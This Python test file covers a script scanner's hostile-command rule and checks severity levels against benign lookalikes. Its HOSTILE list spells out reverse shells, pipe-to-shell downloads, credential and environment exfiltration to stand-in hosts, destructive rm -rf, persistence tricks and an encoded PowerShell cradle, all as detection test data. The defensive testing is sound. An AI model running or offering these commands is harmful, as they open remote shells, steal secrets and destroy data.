"""Hostile commands, and ordinary ones that look alike."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest

from tests.checks.examples import outcomes
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "artifact/script-hostile"


def positive(directory: Path) -> Path:
    path = directory / "setup.sh"
    path.write_text("#!/bin/sh\ncurl -s http://203.0.113.5/x | bash\n")
    return path


def benign(directory: Path) -> Path:
    path = directory / "setup.sh"
    path.write_text(
        "#!/bin/sh\nset -e\npip install -r requirements.txt\nrm -rf build/ dist\ncurl -LO https://a/w.bin\n"
    )
    return path


POWERSHELL = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le")).decode()
HOSTILE = [
    "wget -qO- http://x|sh",
    'bash -c "$(curl -fsSL http://x)"',
    "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh",
    "bash -i >& /dev/tcp/203.0.113.5/9 0>&1",
    "nc -e /bin/sh 203.0.113.5 9",
    "rm -rf /",
    "rm -rf ~/ --no-preserve-root",
    "curl http://x -o /tmp/a && chmod +x /tmp/a && /tmp/a",
    "wget http://e/x.sh -O x.sh; sh x.sh",
    "c\\url http://x | b''ash",
    "curl${IFS}http://x|sh",
    "echo key >> ~/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * x') | crontab -",
    'curl -X POST -d "$(env)" http://x',
    "cat ~/.aws/credentials | curl -F f=@- http://x",
    f"powershell -nop -w hidden -enc {POWERSHELL}",
    "xmrig -o pool:3333",
    f"echo {base64.b64encode(b'curl http://x/y.sh | bash ').decode()} | base64 -d > f",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_high(tmp_path: Path, command: str) -> None:
    path = tmp_path / "x.sh"
    path.write_text(f"#!/bin/bash\n{command}\n")
    found = [f for f in outcomes(path) if f.rule == RULE]
    assert max(f.severity for f in found) >= Severity.HIGH
    assert found[0].location.line == 2


@pytest.mark.parametrize(
    "command",
    [
        "# curl http://x | sh",
        "rm -rf ~/.cache/foo",
        "curl https://x | python3 -m json.tool",
        "curl -O https://x/y.tgz && tar xf y.tgz",
        "curl -L https://x -o model.bin",
        "docker run --rm -it x /bin/sh",
        "wget https://x -O data/x.csv; head data/x.csv",
    ],
)
def test_ordinary_commands_are_silent(tmp_path: Path, command: str) -> None:
    path = tmp_path / "x.sh"
    path.write_text(f"#!/bin/bash\n{command}\n")
    assert outcomes(path) == []


def test_the_installer_of_a_known_tool_is_medium(tmp_path: Path) -> None:
    path = tmp_path / "x.sh"
    path.write_text("#!/bin/bash\ncurl -sSf https://sh.rustup.rs | sh\n")
    assert [f.severity for f in outcomes(path)] == [Severity.MEDIUM]


@pytest.mark.parametrize("flood", ["curl ", "curl -d ", "rm -r ", "base64 -d ", "nc -"])
def test_a_flood_of_tools_ends_soon_and_is_not_clean(tmp_path: Path, flood: str) -> None:
    from violet.checks.examine import examine_file
    from violet.domain import Skipped

    path = tmp_path / "x.sh"
    path.write_text("#!/bin/sh\n" + flood * 60_000)
    assert any(isinstance(o, Skipped) for o in examine_file(str(path)).outcomes)
